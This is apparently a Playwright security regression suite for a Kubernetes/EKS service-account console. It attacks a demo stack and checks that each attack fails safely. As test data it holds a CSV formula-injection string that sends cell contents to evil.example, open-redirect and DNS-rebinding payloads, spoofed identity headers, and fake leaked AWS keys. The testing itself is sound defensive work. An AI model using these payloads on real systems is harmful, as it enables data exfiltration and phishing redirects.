import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import http from 'node:http';
import { expect, test, type Page } from '@playwright/test';
import { readStackInfo } from './stack-info';
import { signIn } from './support/sign-in';

// Issue 10: each problem found in the console, attacked as a user would, against the demo stack (the simulator
// speaking the real protocols, kubectl and the aws CLI). Each must now fail safely. These change the fleet, so
// they run in the "actions" project, after every read-only spec, and undo what they add.

test.describe.configure({ timeout: 120_000 });

const PROD = 'arn:aws:eks:us-east-1:111122223333:cluster/prod-use1';
const ADMIN_TOKEN = 'demo-platform-automation-token';
const PAYMENTS_VIEWER_TOKEN = 'demo-payments-ci-token';

function kubectl(args: string[], input?: string): string {
  const { kubeconfigPath } = readStackInfo();
  return execFileSync('kubectl', ['--kubeconfig', kubeconfigPath, '--context', PROD, ...args], { encoding: 'utf8', input });
}

function aws(args: string[]): string {
  const { awsEnv } = readStackInfo();
  return execFileSync('aws', ['--endpoint-url', awsEnv.AWS_ENDPOINT_URL, ...args], {
    encoding: 'utf8',
    env: {
      ...process.env,
      ...awsEnv,
      AWS_DEFAULT_REGION: awsEnv.AWS_REGION,
      AWS_PAGER: '',
      AWS_CONFIG_FILE: '/dev/null',
      AWS_SHARED_CREDENTIALS_FILE: '/dev/null',
    },
  });
}

async function api(path: string, token: string, init: RequestInit = {}): Promise<Response> {
  return fetch(`${readStackInfo().consoleUrl}${path}`, {
    ...init,
    headers: { authorization: `Bearer ${token}`, ...(init.body ? { 'content-type': 'application/json' } : {}), ...init.headers },
  });
}

/** A raw request with any Host header (fetch does not let a caller set Host). */
function rawGet(
  path: string,
  headers: Record<string, string>,
): Promise<{ status: number; headers: http.IncomingHttpHeaders; body: string }> {
  const url = new URL(readStackInfo().consoleUrl);
  return new Promise((resolve, reject) => {
    const request = http.request({ host: url.hostname, port: url.port, path, headers, method: 'GET' }, (response) => {
      let body = '';
      response.on('data', (chunk: Buffer) => (body += chunk.toString()));
      response.on('end', () => resolve({ status: response.statusCode ?? 0, headers: response.headers, body }));
    });
    request.on('error', reject);
    request.end();
  });
}

function writeTemp(name: string, content: string | Buffer): string {
  const file = `/tmp/wic-attack-${process.pid}-${name}`;
  writeFileSync(file, content);
  return file;
}

test('#3 one S3 object cannot take the console down: the hostile destination is SN003, every API still answers', async () => {
  const deployment = {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name: 'dos-writer', namespace: 'payments' },
    spec: {
      replicas: 1,
      selector: { matchLabels: { app: 'dos-writer' } },
      template: {
        metadata: { labels: { app: 'dos-writer' } },
        spec: {
          containers: [
            {
              name: 'restate',
              image: 'docker.restate.dev/restatedev/restate:1.6.2',
              env: [{ name: 'RESTATE_WORKER__SNAPSHOTS__DESTINATION', value: 's3://restate-snapshots/dos' }],
            },
          ],
        },
      },
    },
  };
  const huge = { ...deployment, metadata: { name: 'huge-writer', namespace: 'payments' } };
  huge.spec = JSON.parse(JSON.stringify(deployment.spec).replace('s3://restate-snapshots/dos', 's3://restate-snapshots/huge'));
  kubectl(['create', '--validate=false', '-f', '-'], JSON.stringify({ apiVersion: 'v1', kind: 'List', items: [deployment, huge] }));
  aws([
    's3api',
    'put-object',
    '--bucket',
    'restate-snapshots',
    '--key',
    'dos/4294967295/latest.json',
    '--body',
    writeTemp('dos.json', '{}'),
  ]);
  // A 2 MiB latest.json: read as a stream and stopped at 1 MiB.
  const big = Buffer.alloc(2 * 1024 * 1024, ' ');
  big.write('{"version":"V2",');
  aws(['s3api', 'put-object', '--bucket', 'restate-snapshots', '--key', 'huge/0/latest.json', '--body', writeTemp('huge.json', big)]);
  try {
    const serviceAccounts = await api('/api/v1/serviceaccounts?refresh=1', ADMIN_TOKEN);
    expect(serviceAccounts.status).toBe(200);
    expect((await api('/api/v1/clusters', ADMIN_TOKEN)).status).toBe(200);
    const snapshots = await api('/api/v1/snapshots', ADMIN_TOKEN);
    expect(snapshots.status).toBe(200);
    const { items } = (await snapshots.json()) as {
      items: { source: string; state: string; findings: { code: string; evidence: { code?: string; message?: string } }[] }[];
    };
    const dos = items.find((source) => source.source === 's3://restate-snapshots/dos');
    expect(dos?.state).toBe('unreadable');
    expect(dos?.findings[0]).toMatchObject({ code: 'SN003', evidence: { code: 'InvalidPartitionId' } });
    expect(dos?.findings[0].evidence.message).toContain('0–65534');
    const hugeSource = items.find((source) => source.source === 's3://restate-snapshots/huge');
    expect(hugeSource?.state).toBe('unreadable');
    expect(JSON.stringify(hugeSource?.findings)).toContain('ReadLimitExceeded');
    // Every other source is still judged.
    expect(items.find((source) => source.source === 's3://restate-snapshots/payments')?.state).not.toBe('unreadable');
  } finally {
    // Without the writers nothing names these prefixes again; the simulator's S3 has no DeleteObject, so the
    // objects stay and are read by no one.
    kubectl(['-n', 'payments', 'delete', 'deployment', 'dos-writer', 'huge-writer', '--ignore-not-found']);
  }
});

test('#4 a secret in an envFrom ConfigMap never reaches the payments viewer: only its name and source', async ({ page }) => {
  const secret = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYLEAKEDKEY1';
  kubectl([
    '-n',
    'payments',
    'create',
    'configmap',
    'leak',
    `--from-literal=AWS_SECRET_ACCESS_KEY=${secret}`,
    '--from-literal=AWS_ACCESS_KEY_ID=AKIAIOSFODNN7LEAKED1',
  ]);
  kubectl(
    ['apply', '-f', '-'],
    JSON.stringify({
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'leaky', namespace: 'payments' },
      spec: {
        serviceAccountName: 'api',
        containers: [{ name: 'app', image: 'busybox:1.36', envFrom: [{ configMapRef: { name: 'leak' } }] }],
      },
    }),
  );
  try {
    const detail = await api('/api/v1/serviceaccounts/prod-use1/payments/api?refresh=1', PAYMENTS_VIEWER_TOKEN);
    expect(detail.status).toBe(200);
    const body = await detail.text();
    expect(body).toContain('leaky');
    expect(body).not.toContain(secret);
    expect(body).not.toContain('AKIAIOSFODNN7LEAKED1');
    expect(body).toContain('ConfigMap leak, key AWS_SECRET_ACCESS_KEY');
    expect(body).toContain('AKIA…KED1');
    const csv = await (await api('/api/v1/serviceaccounts?format=csv', PAYMENTS_VIEWER_TOKEN)).text();
    expect(csv).not.toContain(secret);

    await signIn(page, 'ann', '/serviceaccounts/prod-use1/payments/api');
    await expect(page.getByText('ConfigMap leak, key AWS_SECRET_ACCESS_KEY').first()).toBeAttached();
    expect(await page.content()).not.toContain(secret);
  } finally {
    kubectl(['-n', 'payments', 'delete', 'pod', 'leaky', '--ignore-not-found', '--wait=false']);
    kubectl(['-n', 'payments', 'delete', 'configmap', 'leak', '--ignore-not-found']);
  }
});

test('#5 a formula in an annotation reaches the CSV as text', async () => {
  const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
  kubectl(['-n', 'payments', 'annotate', 'serviceaccount', 'api', `eks.amazonaws.com/role-arn=${formula}`, '--overwrite']);
  try {
    await api('/api/v1/serviceaccounts?refresh=1', ADMIN_TOKEN);
    const csv = await (await api('/api/v1/serviceaccounts?format=csv&cluster=prod-use1&namespace=payments', ADMIN_TOKEN)).text();
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"`);
    for (const line of csv.split('\r\n')) for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@\t\r]/);
  } finally {
    kubectl(['-n', 'payments', 'annotate', 'serviceaccount', 'api', 'eks.amazonaws.com/role-arn-']);
  }
});

test('#6 open redirect after sign-in: every payload of the corpus lands on the console', async ({ page }) => {
  const origin = new URL(readStackInfo().consoleUrl).origin;
  for (const payload of [
    '/%09/evil.example',
    '//evil.example',
    '/\\evil.example',
    '/%5Cevil.example',
    '%2F%2Fevil.example',
    'https://evil.example',
  ]) {
    await page.context().clearCookies();
    await page.goto(`/signin?returnTo=${payload}`);
    await page.getByRole('link', { name: 'Sign in with SSO' }).click();
    if (await page.getByLabel('Username').isVisible()) {
      await page.getByLabel('Username').fill('dan');
      await page.getByLabel('Password').fill('dan-demo');
      await page.getByRole('button', { name: 'Sign in' }).click();
    }
    await page.waitForURL((url) => !url.pathname.startsWith('/auth/') && !url.pathname.startsWith('/interaction'));
    expect(new URL(page.url()).origin, payload).toBe(origin);
  }
});

test('#6 DNS rebinding: a foreign Host gets 421; security headers on every path, .txt and .js included', async () => {
  const foreign = await rawGet('/api/v1/serviceaccounts', { host: 'evil.example:80', authorization: `Bearer ${ADMIN_TOKEN}` });
  expect(foreign.status).toBe(421);
  expect(foreign.body).not.toContain('prod-use1');
  expect((await rawGet('/api/v1/clusters', { host: 'localhost.evil.example', authorization: `Bearer ${ADMIN_TOKEN}` })).status).toBe(421);
  const own = new URL(readStackInfo().consoleUrl).host;
  for (const path of ['/robots.txt', '/app.js', '/api/v1/clusters', '/signin']) {
    const answer = await rawGet(path, { host: own });
    expect(answer.headers['x-content-type-options'], path).toBe('nosniff');
    expect(answer.headers['x-frame-options'], path).toBe('DENY');
    expect(answer.headers['content-security-policy'], path).toContain("frame-ancestors 'none'");
  }
  // A client-set peer header proves nothing (the server overwrites it): no one is let in by it.
  const spoofed = await rawGet('/api/v1/clusters', { host: own, 'x-console-peer-address': '10.0.0.1', 'x-forwarded-user': 'root' });
  expect(spoofed.status).toBe(401);
});

async function cookieOf(page: Page): Promise<string> {
  const cookies = await page.context().cookies();
  return cookies.map((cookie) => `${cookie.name}=${cookie.value}`).join('; ');
}

test('#6 sessions: sign-out revokes the cookie; an admin revokes a user, audited', async ({ page, browser }) => {
  await signIn(page, 'dan', '/activity');
  const stolen = await cookieOf(page);
  const origin = readStackInfo().consoleUrl;
  expect((await fetch(`${origin}/api/v1/clusters`, { headers: { cookie: stolen } })).status).toBe(200);
  await page.getByRole('button', { name: /sign out/i }).click();
  // The console revokes the session, then sends the browser to the IdP's end-session page.
  await page.waitForURL((url) => url.origin !== origin || url.pathname.startsWith('/signin'));
  expect((await fetch(`${origin}/api/v1/clusters`, { headers: { cookie: stolen } })).status).toBe(401);

  const annPage = await (await browser.newContext()).newPage();
  await signIn(annPage, 'ann', '/activity');
  const annCookie = await cookieOf(annPage);
  expect((await fetch(`${origin}/api/v1/clusters`, { headers: { cookie: annCookie } })).status).toBe(200);
  // Ann is no admin: she may not revoke anyone.
  expect(
    (
      await fetch(`${origin}/api/v1/sessions/revoke`, {
        method: 'POST',
        headers: { cookie: annCookie, origin, 'content-type': 'application/json' },
        body: JSON.stringify({ subject: 'dan' }),
      })
    ).status,
  ).toBe(403);

  const adaPage = await (await browser.newContext()).newPage();
  await signIn(adaPage, 'ada', '/sessions');
  await adaPage.getByRole('button', { name: "Revoke ann's sessions" }).click();
  // The list is read again: ann has no live session left, so her row goes (with its "1 session ended" note).
  await expect(adaPage.getByRole('button', { name: "Revoke ann's sessions" })).toHaveCount(0);
  expect((await fetch(`${origin}/api/v1/clusters`, { headers: { cookie: annCookie } })).status).toBe(401);
  const audit = (await (await api('/api/v1/audit?type=session-revoked', ADMIN_TOKEN)).json()) as {
    items: { result: { subject: string } }[];
  };
  expect(audit.items[0].result.subject).toBe('ann');
});

test('#6 ?refresh=1 is limited per principal: 429 with Retry-After, others unaffected', async () => {
  // Twenty at once: the bucket holds five and refills one per 12 s, so most are refused before any re-read starts.
  const answers = await Promise.all(Array.from({ length: 20 }, () => api('/api/v1/clusters?refresh=1', PAYMENTS_VIEWER_TOKEN)));
  for (const answer of answers) expect([200, 429]).toContain(answer.status);
  const limited = answers.find((answer) => answer.status === 429);
  expect(limited?.status).toBe(429);
  expect(Number(limited?.headers.get('retry-after'))).toBeGreaterThan(0);
  // The cached answer is still served without refresh, and another principal's budget is its own.
  expect((await api('/api/v1/clusters', PAYMENTS_VIEWER_TOKEN)).status).toBe(200);
  expect((await api('/api/v1/clusters?refresh=1', ADMIN_TOKEN)).status).toBe(200);
});

const DATA_ROLE = 'arn:aws:iam::444455556666:role/data-catalog-pod-identity';

/** POST an action as the signed-in browser user (cookie and same-origin Origin, as the console's own pages send it). */
async function postAction(
  page: Page,
  body: unknown,
): Promise<{ status: number; json: { error?: { message: string; details?: Record<string, unknown> } } }> {
  const origin = readStackInfo().consoleUrl;
  const response = await fetch(`${origin}/api/v1/actions`, {
    method: 'POST',
    headers: { cookie: await cookieOf(page), origin, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  return { status: response.status, json: (await response.json()) as { error?: { message: string; details?: Record<string, unknown> } } };
}

test("#1 confused deputy: a payments operator cannot bind the data team's role, as roleArn or targetRoleArn; refusals are audited and name the pattern", async ({
  page,
}) => {
  await signIn(page, 'ann', '/activity');
  const attack = { cluster: 'data-euw1', namespace: 'payments-x', serviceAccount: 'pwn', roleArn: DATA_ROLE };
  for (const dryRun of [true, false]) {
    const answer = await postAction(page, { type: 'create-association', dryRun, params: attack });
    expect(answer.status, `dryRun ${dryRun}`).toBe(403);
    expect(answer.json.error?.details?.missingPattern).toBe(DATA_ROLE);
    expect(answer.json.error?.message).toContain(`roles: ["${DATA_ROLE}"]`);
  }
  // Chaining into it from her own role is the same binding.
  const chained = await postAction(page, {
    type: 'create-association',
    dryRun: false,
    params: {
      cluster: 'prod-use1',
      namespace: 'payments',
      serviceAccount: 'pwn',
      roleArn: 'arn:aws:iam::111122223333:role/payments-api',
      targetRoleArn: DATA_ROLE,
    },
  });
  expect(chained.status).toBe(403);
  expect(chained.json.error?.details?.missingPattern).toBe(DATA_ROLE);
  // Another team's role in her own account is refused too.
  const platform = await postAction(page, {
    type: 'create-association',
    dryRun: true,
    params: {
      cluster: 'prod-use1',
      namespace: 'payments',
      serviceAccount: 'pwn',
      roleArn: 'arn:aws:iam::111122223333:role/platform-vector',
    },
  });
  expect(platform.status).toBe(403);
  // Her own team's role plans fine.
  const own = await postAction(page, {
    type: 'create-association',
    dryRun: true,
    params: { cluster: 'prod-use1', namespace: 'payments', serviceAccount: 'pwn', roleArn: 'arn:aws:iam::111122223333:role/payments-api' },
  });
  expect(own.status).toBe(200);

  const audit = (await (await api('/api/v1/audit?type=refused&actor=ann', ADMIN_TOKEN)).json()) as {
    items: { target: { roleArn?: string }; error: { message: string } }[];
  };
  expect(audit.items.some((entry) => entry.target.roleArn === DATA_ROLE && entry.error.message.includes(DATA_ROLE))).toBe(true);
  // Nothing reached EKS.
  const associations = (await (
    await api('/api/v1/serviceaccounts?cluster=data-euw1&namespace=payments-x&refresh=1', ADMIN_TOKEN)
  ).json()) as {
    items: { name: string }[];
  };
  expect(associations.items.map((row) => row.name)).not.toContain('pwn');
});

test('#1 the role picker and /api/v1/roles list only roles the caller may bind; a viewer gets none and the config line that would allow it', async ({
  page,
}) => {
  const viewer = (await (await api('/api/v1/roles?cluster=prod-use1', PAYMENTS_VIEWER_TOKEN)).json()) as {
    items: unknown[];
    noRolesHint?: string;
  };
  expect(viewer.items).toEqual([]);
  expect(viewer.noRolesHint).toContain('roles: ["arn:aws:iam::111122223333:role/<your-team>-*"]');

  await signIn(page, 'ann', '/activity');
  const origin = readStackInfo().consoleUrl;
  const own = (await (await fetch(`${origin}/api/v1/roles?cluster=prod-use1`, { headers: { cookie: await cookieOf(page) } })).json()) as {
    items: { arn: string }[];
  };
  expect(own.items.length).toBeGreaterThan(0);
  for (const role of own.items) expect(role.arn).toMatch(/^arn:aws:iam::111122223333:role\/payments-/);
  const all = (await (await api('/api/v1/roles?cluster=prod-use1', ADMIN_TOKEN)).json()) as { items: { arn: string }[] };
  expect(all.items.some((role) => role.arn.includes(':role/platform-'))).toBe(true);
});

/** Waits for an applied action to leave `running`, and returns its record. */
async function settled(id: string): Promise<{ status: string; error?: { message: string } }> {
  let record: { status: string; error?: { message: string } } = { status: 'running' };
  await expect(async () => {
    record = (await (await api(`/api/v1/actions/${id}`, ADMIN_TOKEN)).json()) as typeof record;
    expect(record.status).not.toBe('running');
  }).toPass({ timeout: 30_000 });
  return record;
}

test("#2 fix-trust-policy: an operator cannot widen a role another team's service account uses, naming her own cluster; only configured accounts", async ({
  page,
}) => {
  const PAYMENTS_API = 'arn:aws:iam::111122223333:role/payments-api';
  // The platform team's service account uses the payments role too (an admin bound it).
  const bind = await api('/api/v1/actions', ADMIN_TOKEN, {
    method: 'POST',
    body: JSON.stringify({
      type: 'create-association',
      dryRun: false,
      params: { cluster: 'prod-use1', namespace: 'platform', serviceAccount: 'shared-probe', roleArn: PAYMENTS_API, force: true },
    }),
  });
  expect(bind.status).toBe(202);
  expect((await settled(((await bind.json()) as { id: string }).id)).status).toBe('succeeded');
  try {
    await signIn(page, 'ann', '/activity');
    // Her role pattern matches, the cluster is hers, but the trust policy also decides for platform/shared-probe.
    const widened = await postAction(page, {
      type: 'fix-trust-policy',
      dryRun: true,
      params: { roleArn: PAYMENTS_API, cluster: 'prod-use1' },
    });
    expect(widened.status).toBe(403);
    expect(widened.json.error?.message).toContain('platform');
    const audit = (await (await api('/api/v1/audit?type=refused&actor=ann', ADMIN_TOKEN)).json()) as {
      items: { target: { namespace?: string; serviceAccount?: string; roleArn?: string } }[];
    };
    expect(audit.items.some((entry) => entry.target.serviceAccount === 'shared-probe' && entry.target.roleArn === PAYMENTS_API)).toBe(true);
    // Not even an admin changes a role of an account no configured cluster is in.
    const foreign = await api('/api/v1/actions', ADMIN_TOKEN, {
      method: 'POST',
      body: JSON.stringify({ type: 'fix-trust-policy', dryRun: true, params: { roleArn: 'arn:aws:iam::999988887777:role/anything' } }),
    });
    expect(foreign.status).toBe(403);
    expect(((await foreign.json()) as { error: { message: string } }).error.message).toContain('accounts of configured clusters');
  } finally {
    const rows = (await (await api('/api/v1/serviceaccounts?cluster=prod-use1&namespace=platform&refresh=1', ADMIN_TOKEN)).json()) as {
      items: { name: string; podIdentity: { associationId: string } | null }[];
    };
    const probe = rows.items.find((row) => row.name === 'shared-probe');
    if (probe?.podIdentity) {
      const removed = await api('/api/v1/actions', ADMIN_TOKEN, {
        method: 'POST',
        body: JSON.stringify({
          type: 'delete-association',
          dryRun: false,
          params: { cluster: 'prod-use1', associationId: probe.podIdentity.associationId, confirm: 'shared-probe' },
        }),
      });
      if (removed.status === 202) await settled(((await removed.json()) as { id: string }).id);
    }
  }
});
